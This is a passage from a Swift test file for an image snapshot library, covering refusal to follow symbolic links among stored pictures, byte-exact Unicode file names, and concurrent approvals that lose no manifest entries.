    try foreignResults { $0 + " " }
    let moved = folder.path + "/moved"
    try FileManager.default.moveItem(atPath: results + "/" + linked, toPath: moved)
    try FileManager.default.createSymbolicLink(atPath: results + "/" + linked, withDestinationPath: moved)
    for body in [{ _ = try RunPart.read(results) }, { _ = try store.approve(["a"], results: results) }] {
      let error = #expect(throws: SnapshotError.self) { try body() }
      #expect(error?.description.contains("link") == true)
    }
    #expect(pixels("a") == picture(200))
  }

  /// The picture of a difference shows the reference, and is handed on.
  @Test func `links among references are not followed`() throws {
    _ = try store.record([snapshot("a"), snapshot("sub/b"), snapshot("c")], run: run())
    let secret = folder.path + "/secret.png"
    try PNGEncoder.write(picture(77), to: secret)
    let elsewhere = folder.path + "/elsewhere"
    try FileManager.default.moveItem(atPath: store.folder + "/sub", toPath: elsewhere)
    try FileManager.default.removeItem(atPath: reference("a"))
    for (link, target) in [(reference("a"), secret), (store.folder + "/sub", elsewhere)] {
      try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
    }
    let new = [snapshot("a", 9), snapshot("sub/b", 9), snapshot("c")]
    let report = try store.verify(new, run: run(), results: results)
    #expect(report.entries.map(\.verdict) == [.error, .error, .identical])
    for entry in report.entries.prefix(2) {
      #expect(
        entry.message
          == "\(reference(entry.name)) is a link or behind one; links among references are not followed")
      #expect(entry.reference == nil && entry.difference == nil)
    }
    // Nothing is written through a link either; one in the place of a picture is replaced.
    #expect(
      throws: SnapshotError(
        "\(reference("sub/b")) lies behind a symbolic link, through which references are not written; replace the "
          + "link with a folder")
    ) {
      try store.record(new, run: run())
    }
    #expect(try store.record([snapshot("a", 9), snapshot("c")], run: run()).written == ["a"])
    #expect(try PNGDecoder.read(secret).bitmap == picture(77) && pixels("a") == picture(9))
    #expect(try PNGDecoder.read(elsewhere + "/b.png").bitmap == picture(200))
  }

  // MARK: Nothing lost

  @Test func `names are bytes`() throws {
    let names = ["caf\u{E9}", "cafe\u{301}"]
    #expect(try store.record(names.map { snapshot($0) }, run: run()).written.count == 2)
    #expect(try SnapshotManifest.read(in: store.folder)?.entries.count == 2)
    let report = try store.verify([snapshot(names[0]), snapshot(names[1], 9)], run: run(), results: results)
    #expect(report.entries.map(\.verdict) == [.different, .identical])
    #expect(report.entries.map { Array($0.name.utf8).count } == [6, 5])
    let approved = try store.approve([names[1]], results: results).written
    #expect(approved.map { Array($0.utf8).count } == [6])
    #expect(try SnapshotStore.merge(RunPart.read(results)).entries.count == 2)
  }

  @Test func `approvals at once lose nothing`() throws {
    let names = (0..<24).map { "picture \($0)" }
    _ = try store.record(names.map { snapshot($0) }, run: run())
    _ = try store.verify(names.map { snapshot($0, 9) }, run: run(), results: results)
    let store = store
    let results = results
    DispatchQueue.concurrentPerform(iterations: names.count) { index in
      _ = try? store.approve([names[index]], results: results)
    }
    let manifest = try #require(try SnapshotManifest.read(in: store.folder))
    #expect(manifest.entries.count == names.count)
    for entry in manifest.entries {
      #expect(entry.pixels == manifest.entries[0].pixels && pixels(entry.name) == picture(9))
    }
  }
}
